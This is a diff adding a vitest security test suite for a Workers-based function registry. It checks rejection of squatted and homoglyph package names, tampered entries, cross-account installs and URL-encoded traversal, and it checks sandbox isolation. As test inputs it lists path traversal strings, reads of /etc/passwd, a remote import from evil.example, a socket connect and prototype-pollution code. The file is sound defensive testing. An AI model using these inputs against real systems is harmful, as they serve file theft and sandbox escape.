@@ -1,0 +1,233 @@
+import { env as bindings, exports } from "cloudflare:workers";
+import { and, eq } from "drizzle-orm";
+import { describe, expect, it } from "vitest";
+import { unwrap } from "#blueprints/outcome";
+import { registryVersions } from "#edge/db/tables/registry";
+import { createResources } from "#edge/deploy/create";
+import { leadBlueprint, testAccount } from "#edge/deploy/deploy.fixture";
+import { deployResources } from "#edge/deploy/deploy";
+import type { Env } from "#edge/env";
+import { createWorkspace, workspaceStub } from "#edge/gateway/directory";
+import { compile } from "#edge/isolates/bundle";
+import type { IsolateGrant } from "#edge/isolates/isolate";
+import { runFunction } from "#edge/isolates/run";
+import { install } from "#edge/registry/install";
+import { publish } from "#edge/registry/publish";
+
+const env = bindings as unknown as Env;
+
+/** An account with a live scoring function, and how it publishes and installs that. */
+async function publisher(name: string) {
+  const { services, actor } = await testAccount(name);
+  const deploy = async (score = 90) => {
+    const code = `export default async () => ({ score: ${score} });`;
+    const blueprint = { ...leadBlueprint({ tests: [] }, code), name: `leads-${score}` };
+    const created = await createResources(services, actor, {
+      blueprint,
+      workspace: `${name}-${score}`,
+    });
+    await deployResources(services, actor, { blueprintId: created.blueprintId });
+    return created.resources[0]?.id ?? "";
+  };
+  const resource = await deploy();
+  const request = { resource, slug: `@${name}/scorer`, version: "1.0.0" };
+  const send = (change: Partial<Parameters<typeof publish>[2]> = {}) =>
+    publish(services, actor, { ...request, ...change });
+  const take = (entry: string, integrity?: string) =>
+    install(services, actor, {
+      entry,
+      workspace: `${name}-90`,
+      alias: "taken",
+      ...(integrity ? { integrity } : {}),
+    });
+  return { services, actor, deploy, send, take };
+}
+
+it.each([
+  "@second-first/scorer",
+  "@Squatted/scorer",
+  "@squatted /scorer",
+  "@squatted\u200B/scorer",
+  "@squatteԁ/scorer",
+  "@ｓquatted/scorer",
+  "@squatted/../other/scorer",
+  "@squatted/Scorer",
+  "@squatted/scorer/x",
+  "@squatted/scorеr",
+  "@squatted/scorer@1.0.0",
+  "@squatted/-scorer",
+  "@squatted/",
+  "squatted/scorer",
+  "@@squatted/scorer",
+  "@squatted/scorer\n",
+  `@squatted/${"a".repeat(64)}`,
+])(
+  "nothing is published as %j by who is not called so, nor under a name that looks like another",
+  async (slug) => {
+    const name = `squatted-${Math.trunc(performance.now() * 1000)}`.slice(0, 30);
+    const { send } = await publisher(name);
+    await expect(send({ slug })).rejects.toMatchObject({
+      code: expect.stringMatching(/^registry\.(bad-slug|not-owner)$/) as string,
+    });
+  },
+);
+
+it.each([
+  "1.0.0 ",
+  "01.0.0",
+  "1.0.0-",
+  "1.0",
+  "^1.0.0",
+  "1.0.0+other",
+  "=1.0.0",
+  "1.0.0\n",
+  "１.0.0",
+])("the version %j names none", async (version) => {
+  const { send } = await publisher(`ver-${Buffer.from(version).toString("hex")}`.slice(0, 38));
+  await expect(send({ version })).rejects.toMatchObject({ code: "registry.bad-version" });
+});
+
+it("a version that was published never gets other bytes, neither by another publication nor behind it", async () => {
+  const { services, send, deploy, take } = await publisher("overwriter");
+  const first = await send();
+  const other = await deploy(10);
+  await expect(send({ resource: other })).rejects.toMatchObject({
+    code: "registry.version-exists",
+  });
+  // Whoever can write the database takes the version out and publishes it again.
+  await services.db
+    .delete(registryVersions)
+    .where(and(eq(registryVersions.slug, first.slug), eq(registryVersions.version, "1.0.0")));
+  const second = await send({ resource: other });
+  expect(second.integrity).not.toBe(first.integrity);
+  await expect(take(first.install, first.integrity)).rejects.toMatchObject({
+    code: "registry.integrity-mismatch",
+  });
+  expect((await take(second.install, second.integrity)).version).toBe("1.0.0");
+});
+
+type Version = typeof registryVersions.$inferSelect;
+it.each<[string, (row: Version) => Partial<Version>]>([
+  ["egress", ({ definition }) => ({ definition: { ...definition, egress: ["*"] } })],
+  [
+    "secrets",
+    ({ definition }) => ({
+      definition: {
+        ...definition,
+        secrets: [{ name: "A", purpose: "", kind: "token", hosts: ["evil.example"] }],
+      },
+    }),
+  ],
+  ["description", ({ definition }) => ({ definition: { ...definition, description: "Scores." } })],
+  [
+    "source",
+    ({ definition }) => ({
+      definition: { ...definition, code: "export default () => 1" } as Version["definition"],
+    }),
+  ],
+  [
+    "compiled code",
+    ({ compiled }) => ({
+      compiled: { ...compiled!, modules: { "main.ts": "export default () => 1" } },
+    }),
+  ],
+  ["missing code", () => ({ compiled: null })],
+])("an entry whose %s changed where it is stored is not installed", async (what, change) => {
+  const { services, send, take } = await publisher(`changed-${what.replaceAll(" ", "-")}`);
+  const { install: entry, slug } = await send();
+  const row = await services.db
+    .select()
+    .from(registryVersions)
+    .where(eq(registryVersions.slug, slug))
+    .get();
+  await services.db
+    .update(registryVersions)
+    .set(change(row!))
+    .where(eq(registryVersions.slug, slug));
+  await expect(take(entry)).rejects.toMatchObject({ code: "registry.integrity-mismatch" });
+});
+
+it("an entry goes into no workspace of another account, whatever the id or slug", async () => {
+  const { services, send } = await publisher("sharer");
+  const { install: entry } = await send();
+  const { actor: owner } = await testAccount("attacked");
+  const { id } = await createWorkspace(services, owner, { slug: "attacked-work", name: "A" });
+  const { actor } = await testAccount("intruder");
+  for (const workspace of [
+    "attacked-work",
+    id,
+    "ATTACKED-WORK",
+    "../attacked-work",
+    "attacked-work ",
+  ]) {
+    await expect(install(services, actor, { entry, workspace })).rejects.toMatchObject({
+      status: expect.toSatisfy((status: number) => status === 404 || status === 400) as number,
+    });
+  }
+  expect(unwrap(await workspaceStub(services.env, id).describe()).live).toEqual([]);
+});
+
+it.each([
+  "@sharer/%2e%2e",
+  "@sharer/..%2f..%2fapi",
+  "@sharer/scorer/1.0.0%00",
+  "@sharer/scorer/..",
+  "@%73harer/scorer/latest/x",
+  "@sharer/scorer/'--",
+])("/registry/%s is nothing", async (path) => {
+  const answer = await exports.default.fetch(`https://aerostack.test/registry/${path}`);
+  expect([400, 404]).toContain(answer.status);
+});
+
+describe("code that reaches for files or other places", () => {
+  it.each([
+    'import x from "../../../etc/passwd";',
+    'import x from "./other.ts";',
+    'import "/etc/passwd";',
+    'import x from "file:///etc/passwd";',
+    'import x from "data:text/javascript,export default 1";',
+    'import x from "https://evil.example/x.js";',
+    'import x from "cloudflare:workers";',
+    'import x from "workerd:unsafe";',
+    'export * from "../secrets.ts";',
+    'import * as x\nfrom "../x.ts";',
+    'const x = await import("../x.ts");',
+    'import{x}from"../x.ts";',
+    'import/**/x/**/from/**/"../x.ts";',
+    'const x = await import(["..", "x.ts"].join("/"));',
+    'const x = await import(["cloudflare", "sockets"].join(":")).then(async (it) => it.connect("127.0.0.1:1").opened);',
+    'const { readFileSync } = await import("node:fs"); readFileSync("/etc/passwd", "utf8");',
+  ])("does not run: %s", async (line) => {
+    const ran = (async () => {
+      const code = await compile(
+        `${line}\nexport default async () => typeof x === "undefined" ? "reached" : String(x);`,
+      );
+      return runFunction(env, { code, grant: grantOf("wks_reach"), input: null });
+    })();
+    await expect(ran).rejects.toMatchObject({ code: expect.stringMatching(/^code\./) as string });
+  });
+});
+
+const grantOf = (workspaceId: string): IsolateGrant => ({
+  workspaceId,
+  egress: [],
+  secrets: [],
+  mode: "live",
+});
+
+it("what code leaves behind is seen by no other workspace and not by the platform", async () => {
+  const code = await compile(`export default () => {
+    const found = [globalThis.left, ({}).left, [].left].map((one) => one ?? null);
+    globalThis.left = Object.prototype.left = Array.prototype.left = "left";
+    JSON.parse = () => { throw new Error("pwned"); };
+    return { found };
+  }`);
+  const run = (workspaceId: string) =>
+    runFunction(env, { code, grant: grantOf(workspaceId), input: null });
+  expect((await run("wks_one")).output).toEqual({ found: [null, null, null] });
+  expect((await run("wks_two")).output).toEqual({ found: [null, null, null] });
+  expect([(globalThis as { left?: string }).left, ({} as { left?: string }).left]).toEqual([
+    undefined,
+    undefined,
+  ]);
+});
